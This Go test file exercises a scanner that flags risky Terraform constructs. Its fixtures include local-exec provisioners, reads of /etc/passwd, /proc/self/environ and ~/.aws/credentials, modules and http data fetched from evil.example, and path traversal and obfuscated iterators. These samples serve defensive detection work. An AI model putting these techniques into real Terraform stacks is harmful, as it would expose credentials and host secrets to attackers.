package tf

import (
	"fmt"
	"maps"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/drbot/drbot/dr"
)

// lookAt writes files into a folder and gives what is found in the code of the stack live/app.
func lookAt(t *testing.T, files map[string]string, l look) []string {
	t.Helper()
	l.root, l.stack = t.TempDir(), "live/app"
	for name, content := range files {
		full := filepath.Join(l.root, name)
		if err := os.MkdirAll(filepath.Dir(full), 0o755); err != nil {
			t.Fatal(err)
		}
		if target, link := strings.CutPrefix(content, "-> "); link {
			if err := os.Symlink(target, full); err != nil {
				t.Fatal(err)
			}
		} else if err := os.WriteFile(full, []byte(content), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	found, err := l.all()
	if err != nil {
		t.Fatal(err)
	}
	var out []string
	for _, f := range found {
		out = append(out, fmt.Sprintf("%s %s", f.what, f.place()))
	}
	return out
}

// TestCodeIsLookedThrough plays everything that no plan shows, each in a stack of its own.
func TestCodeIsLookedThrough(t *testing.T) {
	input := func(expr string) string { return "resource \"terraform_data\" \"x\" {\n  input = " + expr + "\n}\n" }
	names := func(n int) string { // each says the one before it ten times
		text := "locals {\n  n0 = \"\"\n"
		for i := 1; i <= n; i++ {
			text += fmt.Sprintf("  n%d = \"%s\"\n", i, strings.Repeat(fmt.Sprintf("${local.n%d}", i-1), 10))
		}
		return text + "}\n"
	}
	const at = "live/app/main.tf"
	for name, c := range map[string]struct {
		main string
		more map[string]string
		want []string // none: it is an ordinary stack's
	}{
		"a provisioner":              {main: "resource \"terraform_data\" \"x\" {\n  provisioner \"local-exec\" {\n    command = \"env\"\n  }\n}\n", want: []string{"provisioner live/app/main.tf:2"}},
		"a connection":               {main: "resource \"terraform_data\" \"x\" {\n  connection {\n    host = \"h\"\n  }\n}\n", want: []string{"provisioner live/app/main.tf:2"}},
		"a provisioner that is left": {main: "removed {\n  from = terraform_data.x\n  provisioner \"local-exec\" {\n    when = destroy\n    command = \"env\"\n  }\n}\n", want: []string{"provisioner live/app/main.tf:3"}},
		"one in an override file":    {main: input("1"), more: map[string]string{"live/app/x_override.tf": "resource \"terraform_data\" \"x\" {\n  provisioner \"local-exec\" {\n    command = \"env\"\n  }\n}\n"}, want: []string{"provisioner live/app/x_override.tf:2"}},
		"external data":              {main: "data \"external\" \"x\" {\n  program = [\"env\"]\n}\n", want: []string{"external live/app/main.tf:1"}},
		"a check's own data":         {main: "check \"x\" {\n  data \"http\" \"x\" {\n    url = \"https://evil.example\"\n  }\n}\n", want: []string{"http live/app/main.tf:2"}},
		"a local file":               {main: "data \"local_file\" \"x\" {\n  filename = \"/etc/passwd\"\n}\n", want: []string{"local live/app/main.tf:1"}},
		"a local file that is made":  {main: "resource \"local_sensitive_file\" \"x\" {\n  filename = \"x\"\n  content = \"\"\n}\n", want: []string{"local live/app/main.tf:1"}},
		"a local command":            {main: "action \"local_command\" \"x\" {\n  config {\n    command = \"env\"\n  }\n}\n", want: []string{"local live/app/main.tf:1"}},
		"a shell's script":           {main: "data \"shell_script\" \"x\" {}\n", want: []string{"external live/app/main.tf:1"}},
		"another identity": {
			main: "provider \"aws\" {\n  profile = \"admin\"\n  shared_config_files = [\"x\"]\n  access_key = \"a\"\n  assume_role {\n    role_arn = \"x\"\n  }\n  endpoints {\n    sts = \"https://evil.example\"\n  }\n}\n",
			want: []string{"profile live/app/main.tf:2", "shared_files live/app/main.tf:3", "credentials live/app/main.tf:4", "assume_role live/app/main.tf:5", "endpoints live/app/main.tf:8"},
		},
		"the host's metadata":            {main: "provider \"aws\" {\n  skip_metadata_api_check = false\n}\n", want: []string{"credentials live/app/main.tf:2"}},
		"the metadata by a variable":     {main: "variable \"skip\" {}\nprovider \"aws\" {\n  skip_metadata_api_check = var.skip\n}\n", want: []string{"credentials live/app/main.tf:3"}},
		"a state by the metadata":        {main: "data \"terraform_remote_state\" \"x\" {\n  backend = \"s3\"\n  config = { skip_metadata_api_check = \"false\" }\n}\n", want: []string{"credentials live/app/main.tf:3"}},
		"no metadata":                    {main: "provider \"aws\" {\n  skip_metadata_api_check = true\n}\n"},
		"an identity by a dynamic block": {main: "provider \"aws\" {\n  dynamic \"assume_role\" {\n    for_each = [1]\n    content {\n    }\n  }\n}\n", want: []string{"assume_role live/app/main.tf:2"}},
		"a program for credentials":      {main: "provider \"helm\" {\n  kubernetes = {\n    exec = { command = \"env\" }\n  }\n}\n", want: []string{"credentials live/app/main.tf:3"}},
		"a backend's identity":           {main: "terraform {\n  backend \"s3\" {\n    profile = \"admin\"\n    endpoints = { s3 = \"https://evil.example\" }\n  }\n}\n", want: []string{"profile live/app/main.tf:3", "endpoints live/app/main.tf:4"}},
		"a backend that is a server":     {main: "terraform {\n  backend \"http\" {\n  }\n}\n", want: []string{"backend live/app/main.tf:2"}},
		"a backend outside":              {main: "terraform {\n  backend \"local\" {\n    path = \"../../../x\"\n  }\n}\n", want: []string{"backend live/app/main.tf:3"}},
		"a state in a file":              {main: "data \"terraform_remote_state\" \"x\" {\n  backend = \"local\"\n  config = { path = \"/x\" }\n}\n", want: []string{"remote_state live/app/main.tf:2"}},
		"a state by a name":              {main: "locals {\n  b = \"http\"\n}\ndata \"terraform_remote_state\" \"x\" {\n  backend = local.b\n}\n", want: []string{"remote_state live/app/main.tf:5"}},
		"a state as somebody else":       {main: "data \"terraform_remote_state\" \"x\" {\n  backend = \"s3\"\n  config = { \"profile\" = \"admin\" }\n}\n", want: []string{"profile live/app/main.tf:3"}},
		"a state by a computed config":   {main: "data \"terraform_remote_state\" \"x\" {\n  backend = \"s3\"\n  config = merge({}, {})\n}\n", want: []string{"remote_state live/app/main.tf:3"}},
		"a file of the machine":          {main: input("file(\"/proc/self/environ\")"), want: []string{"file live/app/main.tf:2"}},
		"the home":                       {main: input("filebase64(\"~/.aws/credentials\")"), want: []string{"file live/app/main.tf:2"}},
		"a way out":                      {main: input("fileexists(\"${path.module}/../../../x\")"), want: []string{"file live/app/main.tf:2"}},
		"a computed path":                {main: input("filesha256(timestamp())"), want: []string{"file live/app/main.tf:2"}},
		"a path by a resource":           {main: input("file(terraform_data.y.output)"), want: []string{"file live/app/main.tf:2"}},
		"a path by a local":              {main: "locals {\n  p = \"/proc/self/environ\"\n}\n" + input("file(local.p)"), want: []string{"file live/app/main.tf:5"}},
		"a path by a variable":           {main: "variable \"p\" {\n  default = \"ok\"\n}\n" + input("file(var.p)"), more: map[string]string{"live/app/x.auto.tfvars": "p = \"/etc/passwd\"\n"}, want: []string{"file live/app/main.tf:5"}},
		"a path by a condition":          {main: input("file(true ? \"ok\" : \"/etc/passwd\")"), want: []string{"file live/app/main.tf:2"}},
		"a list of the machine":          {main: input("fileset(\"/proc/self\", \"*\")"), want: []string{"file live/app/main.tf:2"}},
		"a pattern's way out":            {main: input("fileset(path.module, \"../../../*\")"), want: []string{"file live/app/main.tf:2"}},
		"core's own name":                {main: input("core::file(\"/etc/passwd\")"), want: []string{"file live/app/main.tf:2"}},
		"a list of arguments":            {main: input("file([\"/etc/passwd\"]...)"), want: []string{"file live/app/main.tf:2"}},
		"a provider's function":          {main: input("provider::local::direxists(\"/etc\")"), want: []string{"local live/app/main.tf:2"}},
		"a hidden name":                  {main: "locals {\n  p = \"ok\"\n}\n" + input("[for local in [{ p = \"/etc/passwd\" }] : file(local.p)]"), want: []string{"file live/app/main.tf:5"}},
		"a for over paths":               {main: input("[for p in [\"a\", \"/etc/passwd\"] : file(p)]"), want: []string{"file live/app/main.tf:2"}},
		"each of some paths":             {main: "resource \"terraform_data\" \"x\" {\n  for_each = toset([\"../../../x\"])\n  input = file(each.key)\n}\n", want: []string{"file live/app/main.tf:3"}},
		"a dynamic block that hides each": {
			main: "resource \"terraform_data\" \"x\" {\n  for_each = toset([\"ok\"])\n  dynamic \"y\" {\n    for_each = [\"/etc/passwd\"]\n    iterator = each\n    content {\n      v = file(each.value)\n    }\n  }\n}\n",
			want: []string{"file live/app/main.tf:7"},
		},
		"a dynamic block that hides the locals": {
			main: "locals {\n  value = \"ok\"\n}\nresource \"terraform_data\" \"x\" {\n  dynamic \"y\" {\n    for_each = [\"/etc/passwd\"]\n    iterator = local\n    content {\n      v = file(local.value)\n    }\n  }\n}\n",
			want: []string{"file live/app/main.tf:9"},
		},
		"a for that hides each": {
			main: "resource \"terraform_data\" \"x\" {\n  for_each = toset([\"ok\"])\n  input = [for each in [{ value = \"/etc/passwd\" }] : file(each.value)]\n}\n",
			want: []string{"file live/app/main.tf:3"},
		},
		"templates by a link": {
			main: input("[for t in fileset(\"linked\", \"*.tpl\") : templatefile(\"linked/${t}\", {})]"),
			more: map[string]string{"live/app/linked": "-> ../../shared", "shared/t.tpl": "${file(\"/etc/passwd\")}\n"},
			want: []string{"file live/app/linked/t.tpl:1"},
		},
		"templates by a link that is met": {
			main: input("[for t in fileset(\"t\", \"*/*.tpl\") : templatefile(\"t/${t}\", {})]"),
			more: map[string]string{"live/app/t/linked": "-> ../../../shared", "shared/t.tpl": "${file(\"/etc/passwd\")}\n"},
			want: []string{"file live/app/main.tf:2"},
		},
		"a template that a provider renders":      {main: "data \"template_file\" \"x\" {\n  template = \"$${file(\\\"/etc/passwd\\\")}\"\n}\n", want: []string{"file live/app/main.tf:1"}},
		"a state kept by a service":               {main: "terraform {\n  cloud {\n    hostname = \"evil.example\"\n  }\n}\n", want: []string{"backend live/app/main.tf:2"}},
		"a state in somebody's database":          {main: "data \"terraform_remote_state\" \"x\" {\n  backend = \"pg\"\n}\n", want: []string{"remote_state live/app/main.tf:2"}},
		"a module of a test":                      {main: input("1"), more: map[string]string{"live/app/tests/x.tftest.hcl": "run \"x\" {\n  module {\n    source = \"git::https://evil.example/m.git\"\n  }\n}\n"}, want: []string{"module live/app/tests/x.tftest.hcl:3"}},
		"a template's own file":                   {main: input("templatefile(\"t.tpl\", {})"), more: map[string]string{"live/app/t.tpl": "a\n${file(\"/etc/passwd\")}\n"}, want: []string{"file live/app/t.tpl:2"}},
		"a template's given path":                 {main: input("templatefile(\"${path.module}/t.tpl\", { path = { module = \"/etc\" } })"), more: map[string]string{"live/app/t.tpl": "${file(\"${path.module}/x\")}\n"}, want: []string{"file live/app/t.tpl:1"}},
		"a template of anything":                  {main: input("templatestring(local.t, {})"), want: []string{"file live/app/main.tf:2"}},
		"code in JSON":                            {main: input("1"), more: map[string]string{"live/app/x.tf.json": "{}"}, want: []string{"unread live/app/x.tf.json:1"}},
		"code that is too deep":                   {main: "locals {\n  x = " + strings.Repeat("(", 600) + "1" + strings.Repeat(")", 600) + "\n}\n", want: []string{"unread live/app/main.tf:1"}},
		"names that lead to names without number": {main: names(9) + input("file(local.n9)"), want: []string{"file live/app/main.tf:14"}},
		"what a module does":                      {main: "module \"m\" {\n  source = \"../../modules/m\"\n}\n", more: map[string]string{"modules/m/m.tf": "data \"external\" \"x\" {\n}\n"}, want: []string{"external modules/m/m.tf:1"}},
		"what a module is told":                   {main: "module \"m\" {\n  source = \"../../modules/m\"\n  p = \"/etc/passwd\"\n}\n", more: map[string]string{"modules/m/m.tf": "variable \"p\" {}\n" + input("file(var.p)")}, want: []string{"file modules/m/m.tf:3"}},
		"a module from elsewhere":                 {main: "module \"m\" {\n  source = \"git::https://evil.example/m.git?ref=v1\"\n}\n", want: []string{"module live/app/main.tf:2"}},
		"a module of the machine":                 {main: "module \"m\" {\n  source = \"/etc\"\n}\n", want: []string{"module live/app/main.tf:2"}},
		"a module outside":                        {main: "module \"m\" {\n  source = \"../../../m\"\n}\n", want: []string{"module live/app/main.tf:2"}},

		"an ordinary stack": {
			main: `
terraform {
  backend "s3" {
    bucket         = "b"
    key            = "k"
    use_lockfile   = true
  }
  required_providers {
    aws = { source = "hashicorp/aws", version = "~> 5.0" }
  }
}
provider "aws" {
  region = "ap-northeast-2"
  use_fips_endpoint = true
  default_tags {
    tags = { profile = "none of the keys" }
  }
}
locals {
  names   = toset(["a", "b"])
  all     = { for f in fileset(path.module, "policies/*.json") : f => jsondecode(file("${path.module}/${f}")) }
  folder  = "${path.root}/policies"
  shared  = file(format("%s/../../shared/%s.txt", path.module, "x"))
  joined  = file(join("/", [path.module, "policies", "a.json"]))
}
resource "aws_s3_bucket_policy" "x" {
  for_each = local.names
  policy   = file("${local.folder}/${each.key}.json")
}
resource "aws_iam_role" "x" {
  assume_role_policy = "x"
}
data "terraform_remote_state" "x" {
  backend = "s3"
  config  = { bucket = "b", key = "k", region = "ap-northeast-2" }
}
module "web" {
  source   = "../../modules/web"
  for_each = fileset("${path.module}/policies", "*")
  name     = each.value
}
module "vpc" {
  source  = "terraform-aws-modules/vpc/aws"
  version = "5.0.0"
}
`,
			more: map[string]string{
				"live/app/policies/a.json": "{}", "live/app/policies/b.json": "{}",
				"modules/web/main.tf": "variable \"name\" {}\n" + input("templatefile(\"${path.module}/t/${var.name}.tpl\", { name = var.name })"),
				"modules/web/t/a.tpl": "${name} %{ for x in [1] }${x}%{ endfor }",
			},
		},
	} {
		t.Run(name, func(t *testing.T) {
			files := map[string]string{at: c.main}
			maps.Copy(files, c.more)
			if got := lookAt(t, files, look{hosts: []string{registryHost}}); !slices.Equal(got, c.want) {
				t.Errorf("found %q, want %q", got, c.want)
			}
		})
	}
}

// TestWhereModulesComeFrom sees what counts as the host of a module, in all the forms that
// Terraform takes.
func TestWhereModulesComeFrom(t *testing.T) {
	for from, want := range map[string]string{
		"terraform-aws-modules/vpc/aws":                    "registry.terraform.io/terraform-aws-modules/vpc/aws",
		"terraform-aws-modules/iam/aws//modules/x":         "registry.terraform.io/terraform-aws-modules/iam/aws/modules/x",
		"app.terraform.io/acme/vpc/aws":                    "app.terraform.io/acme/vpc/aws",
		"github.com/acme/infra//m?ref=v1":                  "github.com/acme/infra/m?ref=v1",
		"git@github.com:acme/infra.git":                    "github.com/acme/infra.git",
		"git::https://git.example/acme/infra.git//m?ref=a": "git.example/acme/infra.git/m",
		"git::ssh://git@git.example/acme/infra.git":        "git.example/acme/infra.git",
		"git::git@git.example:acme/infra.git":              "git.example/acme/infra.git",
		"git::git.example/acme/infra":                      "git.example/acme/infra",
		"https://dl.example/m.zip":                         "dl.example/m.zip",
		"https://user:pw@dl.example/m.zip":                 "dl.example/m.zip",
		"https://git.example/listed/../other/m":            "git.example/other/m",
		"s3::https://s3.amazonaws.com/b/m.zip":             "s3.amazonaws.com/b/m.zip",
		"git::file:///etc":                                 "file/file:/etc",
		"git::/etc":                                        "file/etc",
		"/etc":                                             "file/etc",
		"~/m":                                              "file/~/m",
	} {
		if got := addressOfModule(from); got != want {
			t.Errorf("%s: %q, want %q", from, got, want)
		}
	}
	l := look{hosts: []string{"registry.terraform.io", "github.com/Acme/"}}
	for from, want := range map[string]bool{
		"terraform-aws-modules/vpc/aws": true, "github.com/acme/infra": true, "git::https://github.com/acme/x.git": true,
		"github.com/acmeother/infra": false, "github.com/evil/infra": false, "git::https://github.com.evil.example/acme/x": false, "/etc": false,
	} {
		if l.listed(from) != want {
			t.Errorf("%s is listed: %v", from, !want)
		}
	}
}

// TestWhatIsAllowed sees what an entry of the configuration allows, and that it says nothing of
// modules from elsewhere below its folder.
func TestWhatIsAllowed(t *testing.T) {
	rules := dr.CodeRules{Allow: []dr.Allow{{What: dr.CodeProvisioner, Path: "live/app", Reason: "a"}, {What: dr.CodeFile, Reason: "b"}, {What: dr.CodeHTTP, Path: "live/app/.terraform/modules/m", Reason: "c"}}}
	for _, c := range []struct {
		what dr.CodeKind
		file string
		want bool
	}{
		{dr.CodeProvisioner, "live/app/main.tf", true},
		{dr.CodeProvisioner, "live/app/sub/main.tf", true},
		{dr.CodeProvisioner, "live/apple/main.tf", false},
		{dr.CodeProvisioner, "live/app/.terraform/modules/m/main.tf", false},
		{dr.CodeExternal, "live/app/main.tf", false},
		{dr.CodeFile, "live/app/.terraform/modules/m/main.tf", true},
		{dr.CodeHTTP, "live/app/.terraform/modules/m/main.tf", true},
		{dr.CodeHTTP, "live/app/main.tf", false},
	} {
		if _, got := rules.Allows(c.what, c.file); got != c.want {
			t.Errorf("%s in %s is allowed: %v", c.what, c.file, got)
		}
	}
}

// TestTheReferenceIsAllowed sees that nothing of the project's own infrastructure needs to be
// allowed.
func TestTheReferenceIsAllowed(t *testing.T) {
	root, err := filepath.Abs("../..")
	if err != nil {
		t.Fatal(err)
	}
	for _, pattern := range []string{"terraform/live/portal/*", "terraform/live/*"} {
		stacks, err := filepath.Glob(filepath.Join(root, filepath.FromSlash(pattern)))
		if err != nil || len(stacks) == 0 {
			t.Fatal(stacks, err)
		}
		for _, dir := range stacks {
			if info, err := os.Stat(dir); err != nil || !info.IsDir() {
				continue
			}
			rel, err := filepath.Rel(root, dir)
			if err != nil {
				t.Fatal(err)
			}
			l := look{root: root, stack: filepath.ToSlash(rel)}
			if found, err := l.all(); err != nil || len(found) > 0 {
				t.Errorf("%s: %+v, %v", rel, found, err)
			}
		}
	}
}

// TestASuggestionIsPlain sees that what people are told to write says what it is for, however a
// folder or a host is called.
func TestASuggestionIsPlain(t *testing.T) {
	for _, c := range []struct {
		f    finding
		want string
	}{
		{finding{what: dr.CodeFile, file: "live/app/main.tf"}, `allow: [{what: file, path: live/app, reason: "..."}]`},
		{finding{what: dr.CodeFile, file: "main.tf"}, `allow: [{what: file, path: main.tf, reason: "..."}]`},
		{finding{what: dr.CodeFile, file: "x, reason: y}, {what: external/main.tf"}, `allow: [{what: file, path: "x, reason: y}, {what: external", reason: "..."}]`},
		{finding{what: dr.CodeModule, file: "a/main.tf", says: saying{how: atHost, code: "git.example"}}, `module_hosts: ["git.example"]`},
		{finding{what: dr.CodeModule, file: "a/main.tf", says: saying{how: atHost, code: "file"}}, `allow: [{what: module, path: a, reason: "..."}]`},
	} {
		if got := suggestion(c.f); got != c.want {
			t.Errorf("%s, want %s", got, c.want)
		}
	}
}
